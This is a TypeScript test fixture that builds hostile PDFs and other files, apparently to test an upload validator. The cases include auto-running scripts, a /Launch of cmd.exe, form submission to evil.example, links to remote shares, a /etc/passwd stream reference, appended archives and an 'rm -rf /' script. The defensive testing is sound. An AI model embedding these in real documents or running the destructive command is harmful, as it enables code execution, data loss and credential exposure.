import { PDFDocument } from 'mupdf';
import { buildPdf, makeLockedPdf, makePdf, makePhoto } from '../photos.ts';
import type { HostileRow } from './hostile-row.ts';
import { readMp4 } from './videos.ts';
import { makeWord, makeZip } from './zips.ts';

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>';
const tree = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

interface Additions {
  /** Entries for the catalog. */
  catalog?: string;
  /** Entries for the page. */
  page?: string;
  /** From number 4 on. */
  objects?: string[];
}

function makeArmedPdf({ catalog = '', page: more = '', objects = [] }: Additions): Buffer {
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    tree,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] ${more} >>`,
    ...objects,
  ]);
}

const annotate = (annotation: string) => makeArmedPdf({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]` });
const link = (uri: string) => annotate(`/Subtype /Link /A << /S /URI /URI (${uri}) >>`);

function makePackedPdf(): Buffer {
  const pdf = new PDFDocument();
  pdf.insertPage(-1, pdf.addPage([0, 0, 300, 400], 0, {}, ''));
  const script = pdf.addObject({ S: pdf.newName('JavaScript'), JS: pdf.newString('app.alert(1)') });
  pdf.getTrailer().get('Root').put('OpenAction', script);
  return Buffer.from(pdf.saveToBuffer('compress,objstms=yes').asUint8Array());
}

async function hideZip(): Promise<Buffer> {
  return Buffer.concat([makePdf(1), await makeZip({ 'a.txt': 'a' }), Buffer.from('\n%%EOF\n')]);
}

const pdfs: [string, () => Buffer | Promise<Buffer>][] = [
  ['a valid PDF with 3 pages', () => makePdf(3)],
  ['a PDF with a link to a web page', () => link('https://ncert.nic.in')],
  ['a PDF with 1,001 pages', () => makePdf(1_001)],
  ['a PDF with other bytes before its start', () => Buffer.concat([Buffer.from('junk\n'), makePdf(1)])],
  ['a PDF cut in half', () => makePdf(9).subarray(0, 700)],
  ['a PDF with a web page after its end', () => Buffer.concat([makePdf(1), Buffer.from('<script>alert(1)</script>')])],
  ['a PDF with an archive after its end', async () => Buffer.concat([makePdf(1), await makeZip({ 'a.exe': 'MZ' })])],
  ['a PDF with an archive before a second end', hideZip],
  [
    'a PDF with a web page in its first comment',
    () => Buffer.from(makePdf(1).toString('latin1').replace('%PDF-1.4\n', '%PDF-1.4\n%<html><script>alert(1)</script>\n')),
  ],
  [
    'a PDF with a wrong cross-reference table',
    () =>
      Buffer.from(
        makePdf(2)
          .toString()
          .replace(/0000000009/, '0000000019'),
      ),
  ],
  ['a PDF whose page tree is circular', () => buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', tree.replace('3 0', '2 0'), page])],
  ['a PDF without pages', () => makePdf(0)],
  ['a PDF locked with a password', makeLockedPdf],
  ['a PDF that runs JavaScript when it is opened', () => makeArmedPdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })],
  [
    'a PDF with named scripts',
    () => makeArmedPdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: ['<< >>'] }),
  ],
  ['a PDF whose script uses escaped names', () => annotate('/Subtype /Link /A << /S /J#61vaScr#69pt /J#53 (x) >>')],
  ['a PDF with an unreferenced script', () => makeArmedPdf({ objects: ['<< /S /JavaScript /JS (x) >>'] })],
  ['a PDF whose script is in a compressed object', makePackedPdf],
  [
    'a PDF with a script that runs when a page is opened',
    () => makeArmedPdf({ page: '/AA << /O << /S /JavaScript /JS (x) >> >>' }),
  ],
  ['a PDF that starts a program', () => makeArmedPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['a PDF with an embedded file', () => makeArmedPdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' })],
  ['a PDF with a file attached to a page', () => annotate('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>')],
  ['a PDF with an XFA form', () => makeArmedPdf({ catalog: '/AcroForm << /Fields [] /XFA [] >>' })],
  ['a PDF with a form that submits itself', () => annotate('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>')],
  [
    'a PDF with a link to another file',
    () => annotate('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0] >>'),
  ],
  ['a PDF with a link that is a script', () => link('javascript:alert(1)')],
  ['a PDF with a link to files on another machine', () => link('file://evil/share/a')],
  ['a PDF with a video', () => annotate('/Subtype /RichMedia')],
  [
    'a PDF with parts in other files',
    () => makeArmedPdf({ page: '/Contents 4 0 R', objects: ['<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream'] }),
  ],
  ['an archive (ZIP)', () => makeZip({ 'a.txt': 'a' })],
  ['a Word document', () => makeWord()],
  ['a picture (JPEG)', () => makePhoto('jpeg')],
  ['a video (MP4)', readMp4],
  ['a Windows program', () => Buffer.from(`MZ\x90\0${'\0'.repeat(200)}PE\0\0`, 'latin1')],
  ['a Linux program', () => Buffer.from(`\x7fELF\x02\x01\x01${'\0'.repeat(200)}`, 'latin1')],
  ['a web page', () => Buffer.from('<!DOCTYPE html><title>x</title><script>alert(1)</script>')],
  ['a script', () => Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['meaningless bytes', () => Buffer.from(Array.from({ length: 900 }, (_, index) => (index * 7919) % 256))],
  ['PostScript', () => Buffer.from('%!PS-Adobe-3.0\nshowpage\n')],
  ['only the header and end of a PDF', () => Buffer.from('%PDF-1.7\n%%EOF\n')],
];

/** Sent as type PDF. */
export const hostilePdfs: HostileRow[] = pdfs.map(([what, make]) => ({ what, name: 'chapter.pdf', type: 'pdf', make }));
